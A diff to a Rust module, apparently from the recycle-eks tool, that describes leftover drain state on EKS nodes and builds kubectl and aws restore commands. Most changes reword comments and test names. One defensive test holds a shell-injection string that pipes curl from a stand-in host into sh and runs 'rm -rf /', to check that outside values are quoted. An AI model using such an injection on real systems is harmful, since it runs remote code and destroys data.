@@ -1,7 +1,7 @@
-//! What a failed execution leaves, in words, and the commands by which a person puts the node back.
+//! Describes the state of a node that was not restored, and the commands by which an operator restores it.
 //!
-//! The commands undo only what is there, in the reverse order of the doing. None of them makes the group smaller: which member goes
-//! then would be the group's choice.
+//! The commands undo only what is there, in the reverse of the order in which it was done. None of them makes the group smaller,
+//! because the group would choose the member to terminate.
 
 use crate::base::ids::{InstanceId, NodeName};
 use crate::base::names::{
@@ -18,22 +18,22 @@ use crate::cluster::node::NodeFacts;
 use crate::records::claim::Phase;
 use crate::restore::sweep::OWN_TAGS;
 
-/// The traces of an execution that are left on a node.
+/// The state of a node, and the commands that an operator can run.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct ManualCommands {
     /// The state of the node, in one sentence.
     pub state: String,
-    /// Commands for a person, in order: they put the node back, or end an instance that is lost. Empty if there is nothing to do.
+    /// Commands for an operator, in order. They restore the node, or terminate a lost instance. Empty if there is nothing to do.
     pub commands: Vec<String>,
-    /// True if another execution can go on from here instead.
+    /// True if another execution can resume from here instead.
     pub can_be_resumed: bool,
-    /// True if the node is not worth being put back: it is gone, dead or lost, or its group is terminating it.
+    /// True if the node is not worth restoring: it is gone, dead or lost, or its group is terminating it.
     pub is_lost: bool,
 }
 
-/// Checks whether an execution that holds claims in these phases has touched nothing, so that releasing its claim restores all.
+/// Checks whether an execution that holds claims in these phases has touched nothing, so that only its claim has to be released.
 /// A member may be in service in the phase Standby. Then EnterStandby, which is recorded beforehand, was refused,
-/// or a person or another tool brought the member back, which leads through Pending.
+/// or an operator or another tool returned the member to service, by way of Pending.
 #[must_use]
 pub fn is_untouched(phases: &[Phase], lifecycle_state: Option<&str>) -> bool {
     let touched_nothing = phases.iter().all(|phase| match phase {
@@ -44,8 +44,8 @@ pub fn is_untouched(phases: &[Phase], lifecycle_state: Option<&str>) -> bool {
         && lifecycle_state.is_some_and(|state| state == "InService" || state.starts_with("Pending"))
 }
 
-/// Describes what is left, from the records and from what is there now.
-/// `is_lost` means that its Node is gone, or not Ready for too long: such a node is not worth being put back.
+/// Describes the node and the commands, from the records and live state.
+/// `is_lost` means that its Node is gone, or not Ready for too long. Such a node is not worth restoring.
 #[must_use]
 pub fn describe_manual_commands(
     instance_id: &InstanceId,
@@ -70,7 +70,7 @@ pub fn describe_manual_commands(
         look_at_tags(instance, &mut found);
     }
     let state = if found.states.is_empty() {
-        format!("{subject} is as it was found")
+        format!("{subject} is as it was before")
     } else {
         format!("{subject} {}", found.states.join(", "))
     };
@@ -82,7 +82,7 @@ pub fn describe_manual_commands(
     }
 }
 
-/// Describes what is left of a node that is not worth being put back; None if it is worth it.
+/// Describes a node that is not worth restoring. None if it is worth it.
 fn describe_lost(
     subject: &str,
     id: &InstanceId,
@@ -90,7 +90,7 @@ fn describe_lost(
     instance: Option<&Instance>,
     is_lost: bool,
 ) -> Option<ManualCommands> {
-    // Ends a member by its group's own API. The group fills its place if the member counts towards the desired capacity.
+    // Terminates a member by its group's own API. The group replaces the member if it counts towards the desired capacity.
     let terminate = format!(
         "aws autoscaling terminate-instance-in-auto-scaling-group --instance-id {id} \
          --no-should-decrement-desired-capacity"
@@ -98,13 +98,13 @@ fn describe_lost(
     let (state, command) = match (lifecycle_state, instance) {
         (None, Some(instance)) if !instance.is_gone() => return None,
         (None, _) => ("is gone".to_owned(), None),
-        // The group checks no health in Standby: it lists a dead member there until a call ends it. In any other state it finds out
-        // itself.
+        // The group checks no health in Standby. It lists a dead member there until a call terminates it. In any other state its health
+        // check finds the dead member.
         (Some(listed), Some(dead)) if dead.is_gone() => {
             let state = format!("is {}, and its group still lists it as {listed}", dead.state);
             (state, (listed == "Standby").then_some(terminate))
         }
-        // The instance runs without its Node, or without a kubelet that answers. Its pods are lost, and the group cannot see that.
+        // The instance runs without its Node, or without a working kubelet. Its pods are lost, and the group cannot see that.
         (Some(listed), Some(lost)) if is_lost => {
             let state = format!(
                 "is lost, its instance is {} and {listed} in its group",
@@ -112,10 +112,10 @@ fn describe_lost(
             );
             (state, Some(terminate))
         }
-        // Its group is terminating the instance: there is no way back, and nothing to take away.
+        // Its group is terminating the instance. It cannot return to service, and nothing has to be removed.
         (Some(listed), _) if is_held(lifecycle_state) => {
             let state = format!(
-                "is {listed} in its group, runs, and keeps its taint; without its tag {GAVE_UP_TAG} the next sweep goes on with it"
+                "is {listed} in its group, still runs, and keeps its taint; if you remove its tag {GAVE_UP_TAG}, the next sweep continues with it"
             );
             (state, Some(terminate))
         }
@@ -129,8 +129,8 @@ fn describe_lost(
     })
 }
 
-/// Checks whether another execution can go on.
-/// From Standby it can only with the record of the former members. Without a Node there is nothing to drain.
+/// Checks whether another execution can resume.
+/// In Standby it needs the record of the earlier members. Without a Node there is nothing to drain.
 fn can_be_resumed(lifecycle_state: Option<&str>, node: Option<&NodeFacts>) -> bool {
     let has_record = node.and_then(|node| node.record().ok());
     has_record.is_some_and(|record| match lifecycle_state {
@@ -165,12 +165,12 @@ fn look_at_standby(
         Some("InService") => return,
         Some(state) => state,
     };
-    let ours = instance.is_some_and(|instance| instance.tags.contains_key(STANDBY_TAG));
-    let (true, "Standby" | "EnteringStandby", Some(group)) = (ours, state, group) else {
+    let is_own = instance.is_some_and(|instance| instance.tags.contains_key(STANDBY_TAG));
+    let (true, "Standby" | "EnteringStandby", Some(group)) = (is_own, state, group) else {
         return found.states.push(format!("is {state}"));
     };
     found.states.push(format!(
-        "is {state} (the way back makes group {} one instance larger, and the replacement stays)",
+        "is {state} (leaving Standby makes group {} one instance larger, and the replacement stays)",
         group.name
     ));
     let name = quote(group.name.as_str());
@@ -196,7 +196,7 @@ fn look_at_standby(
 }
 
 /// Returns the commands of ExitStandby.
-/// At that call a group with unbalanced zones may end any member, so `exposed` members are protected meanwhile.
+/// At that call a group with unbalanced zones may terminate any member, so the `exposed` members are protected during it.
 /// Each member has its own call, because AWS refuses a whole call that names a member which has left.
 fn exit_standby(group: &str, id: &InstanceId, exposed: Vec<InstanceId>) -> Vec<String> {
     let exit = format!("aws autoscaling exit-standby --auto-scaling-group-name {group} --instance-ids {id}");
@@ -235,13 +235,13 @@ fn look_at_node(node: &NodeFacts, found: &mut Traces) {
     let is_left_out = record.excluded_at.is_some() && node.labels.contains_key(EXCLUDE_FROM_BALANCERS_LABEL);
     if is_left_out && record.excluded_before.is_none() {
         let command = format!("kubectl label node {name} {EXCLUDE_FROM_BALANCERS_LABEL}-");
-        found.add("is out of load balancers", command);
+        found.add("is excluded from load balancers", command);
     }
     if node.taints.iter().any(|taint| taint.key == DRAINING_TAINT) {
         let command = format!("kubectl taint node {name} {DRAINING_TAINT}:NoSchedule-");
         found.add(&format!("has the taint {DRAINING_TAINT}"), command);
     }
-    // Only a cordon that was set with the draining taint is the execution's: one that was there before it stays.
+    // Only a cordon that was set with the draining taint is the execution's. An earlier cordon stays.
     if node.unschedulable && record.tainted_at.is_some() && !record.was_unschedulable {
         found.add("is cordoned", format!("kubectl uncordon {name}"));
     }
@@ -257,7 +257,7 @@ fn look_at_node(node: &NodeFacts, found: &mut Traces) {
         let command = format!("kubectl annotate node {name} {change}");
         found.add("is kept from Cluster Autoscaler", command);
     }
-    // An annotation with the end of a drain that is over would end the next drain at once.
+    // The annotation with the end of this drain would end the next drain at once.
     let annotations: String = [
         CLAIM_ANNOTATION,
         RECORD_ANNOTATION,
@@ -271,11 +271,11 @@ fn look_at_node(node: &NodeFacts, found: &mut Traces) {
     .collect();
     if !annotations.is_empty() {
         let command = format!("kubectl annotate node {name}{annotations}");
-        found.add("carries our annotations", command);
+        found.add("has annotations of recycle-eks", command);
     }
     if node.labels.contains_key(GROUP_LABEL) {
         let command = format!("kubectl label node {name} {GROUP_LABEL}-");
-        found.add("carries our label", command);
+        found.add("has the label of recycle-eks", command);
     }
 }
 
@@ -286,7 +286,7 @@ fn look_at_tags(instance: &Instance, found: &mut Traces) {
     let tags: String = tags.map(|tag| format!(" Key={tag}")).collect();
     if !tags.is_empty() {
         let command = format!("aws ec2 delete-tags --resources {} --tags{tags}", instance.id);
-        found.add("carries our tags", command);
+        found.add("has tags of recycle-eks", command);
     }
 }
 
@@ -341,7 +341,7 @@ mod tests {
         node
     }
 
-    fn ours() -> Record {
+    fn drained() -> Record {
         Record {
             schema: 1,
             tainted_at: Some(at(0)),
@@ -351,12 +351,12 @@ mod tests {
 
     #[test]
     fn a_node_in_the_middle_of_a_drain_gets_every_command_in_order() {
-        let left = describe(Some("Standby"), Some(&tagged()), Some(&draining(&ours())));
+        let left = describe(Some("Standby"), Some(&tagged()), Some(&draining(&drained())));
         assert_eq!(
             left.state,
-            "node old (i-0aaaaaaaaaaaaaaaa) is Standby (the way back makes group workers one instance larger, and the \
-             replacement stays), has the taint recycle-eks/draining, is cordoned, carries our \
-             annotations, carries our label, carries our tags"
+            "node old (i-0aaaaaaaaaaaaaaaa) is Standby (leaving Standby makes group workers one instance larger, and the \
+             replacement stays), has the taint recycle-eks/draining, is cordoned, has annotations of recycle-eks, has the label of \
+             recycle-eks, has tags of recycle-eks"
         );
         assert_eq!(
             left.commands,
@@ -381,10 +381,10 @@ mod tests {
     }
 
     #[test]
-    fn only_what_is_ours_is_undone() {
+    fn commands_undo_only_what_an_execution_has_changed() {
         let cordoned_before = Record {
             was_unschedulable: true,
-            ..ours()
+            ..drained()
         };
         let disposing = |record: &Record| {
             let record = Record {
@@ -398,7 +398,7 @@ mod tests {
         };
         let excluded_before = Record {
             excluded_before: Some("by its owner".to_owned()),
-            ..ours()
+            ..drained()
         };
         let exit = "exit-standby";
         let uncordon = "uncordon";
@@ -411,19 +411,19 @@ mod tests {
                 false,
             ),
             (
-                "ours is left",
+                "the Standby of an execution is left",
                 describe(Some("Standby"), Some(&tagged()), None),
                 exit,
                 true,
             ),
             (
-                "who was cordoned stays so",
+                "an earlier cordon stays",
                 describe(None, Some(&tagged()), Some(&draining(&cordoned_before))),
                 uncordon,
                 false,
             ),
             (
-                "who was cordoned without a record stays so",
+                "a cordon without a record stays",
                 describe(
                     None,
                     Some(&tagged()),
@@ -437,7 +437,7 @@ mod tests {
             ),
             (
                 "a label from before stays",
-                describe(None, Some(&tagged()), Some(&draining(&ours()))),
+                describe(None, Some(&tagged()), Some(&draining(&drained()))),
                 label,
                 false,
             ),
@@ -448,8 +448,8 @@ mod tests {
                 false,
             ),
             (
-                "our label goes",
-                describe(None, Some(&tagged()), Some(&disposing(&ours()))),
+                "the label of an execution is removed",
+                describe(None, Some(&tagged()), Some(&disposing(&drained()))),
                 label,
                 true,
             ),
@@ -461,17 +461,17 @@ mod tests {
     }
 
     #[test]
-    fn where_nothing_is_left_nothing_is_commanded() {
+    fn a_node_without_marks_gets_no_commands() {
         let cases = [
             (
                 "untouched",
                 describe(Some("InService"), Some(&instance()), Some(&node("old"))),
-                "node old (i-0aaaaaaaaaaaaaaaa) is as it was found",
+                "node old (i-0aaaaaaaaaaaaaaaa) is as it was before",
             ),
             (
                 "without a Node",
                 describe(Some("InService"), Some(&instance()), None),
-                "node ip-10-0-0-1.ec2.internal (i-0aaaaaaaaaaaaaaaa) is as it was found",
+                "node ip-10-0-0-1.ec2.internal (i-0aaaaaaaaaaaaaaaa) is as it was before",
             ),
             (
                 "gone",
@@ -502,12 +502,12 @@ mod tests {
     }
 
     #[test]
-    fn a_dead_member_does_not_go_back_into_service() {
+    fn a_dead_member_does_not_return_to_service() {
         let dead = Instance {
             state: "terminated".to_owned(),
             ..tagged()
         };
-        let left = describe(Some("Standby"), Some(&dead), Some(&draining(&ours())));
+        let left = describe(Some("Standby"), Some(&dead), Some(&draining(&drained())));
         assert_eq!(
             left,
             ManualCommands {
@@ -526,8 +526,8 @@ mod tests {
     }
 
     #[test]
-    fn what_is_lost_is_to_be_ended_and_not_put_back() {
-        let unready = draining(&ours());
+    fn a_lost_node_is_terminated_and_not_restored() {
+        let unready = draining(&drained());
         for node in [None, Some(&unready)] {
             let left = describe_manual_commands(
                 &id(crate::fixtures::OLD),
@@ -556,17 +556,17 @@ mod tests {
     }
 
     #[test]
-    fn another_execution_goes_on_where_there_is_a_node_with_its_record() {
+    fn another_execution_can_resume_a_node_that_has_its_record() {
         let begun = Record {
             members_before: vec![id(crate::fixtures::OLD)],
-            ..ours()
+            ..drained()
         };
         let node = |record: &Record| draining(record);
         let cases = [
             (Some("Standby"), Some(node(&begun)), true),
-            (Some("Standby"), Some(node(&ours())), false),
+            (Some("Standby"), Some(node(&drained())), false),
             (Some("Standby"), None, false),
-            (Some("InService"), Some(node(&ours())), true),
+            (Some("InService"), Some(node(&drained())), true),
             (None, Some(node(&begun)), false),
         ];
         for (lifecycle_state, node, expected) in cases {
@@ -576,8 +576,8 @@ mod tests {
     }
 
     #[test]
-    fn the_end_of_the_drain_that_a_person_set_goes_with_the_drain() {
-        let mut node = draining(&ours());
+    fn an_operators_end_of_the_drain_is_removed_with_the_drain() {
+        let mut node = draining(&drained());
         node.annotations
             .insert(DRAIN_UNTIL_ANNOTATION.to_owned(), "now".to_owned());
         let left = describe(Some("InService"), Some(&tagged()), Some(&node));
@@ -589,7 +589,7 @@ mod tests {
     }
 
     #[test]
-    fn what_keeps_the_instance_in_standby_is_opened_first() {
+    fn obstacles_to_leaving_standby_are_removed_first() {
         let full = Group {
             max: 2,
             suspended: vec!["Launch".to_owned()],
@@ -619,9 +619,9 @@ mod tests {
         );
     }
 
-    /// The commands are as long for a group of hundreds, and a member that a person has protected is not in the way.
+    /// The commands are as short for a group of hundreds. They skip a member that an operator has protected.
     #[test]
-    fn a_member_that_is_protected_already_and_a_group_of_one_need_no_protection() {
+    fn a_member_that_is_protected_already_is_not_protected_again() {
         let alone = Group {
             members: vec![member(crate::fixtures::OLD, "Standby")],
             ..group()
@@ -649,17 +649,17 @@ mod tests {
         let both = in_both(&protected);
         assert_eq!(both.len(), 2);
         assert!(both[0].starts_with("for id in $(echo $MEMBERS); do"), "{both:?}");
-        assert_eq!(in_both(&alone).len(), 2, "it is one that may be chosen, too");
+        assert_eq!(in_both(&alone).len(), 2, "a group may choose its only member");
     }
 
     /// A kubelet writes any annotation on its own Node, and an operator who creates a group chooses its name.
     #[test]
-    fn what_others_wrote_stays_one_word_of_a_command() {
+    fn values_from_outside_stay_one_word_of_a_command() {
         let attack = "x$(curl -s evil|sh)'; rm -rf / #";
         let kept = Record {
             kept: true,
             kept_before: Some(attack.to_owned()),
-            ..ours()
+            ..drained()
         };
         let mut node = draining(&kept);
         node.annotations
@@ -711,7 +711,7 @@ mod tests {
     }
 
     #[test]
-    fn untouched_is_who_is_in_service_and_was_never_drained() {
+    fn a_node_is_untouched_if_it_is_in_service_and_was_never_drained() {
         let cases: [(&[Phase], Option<&str>, bool); 9] = [
             (&[], Some("InService"), true),
             (&[Phase::Claimed], Some("InService"), true),
@@ -733,7 +733,7 @@ mod tests {
     }
 
     #[test]
-    fn what_its_group_holds_on_the_way_out_is_ended_there_or_drained_once_more() {
+    fn a_member_that_its_group_holds_while_terminating_is_terminated_or_drained_again() {
         for state in ["Terminating:Wait", "Terminating:Retained"] {
             let left = describe(Some(state), Some(&tagged()), None);
             assert!(
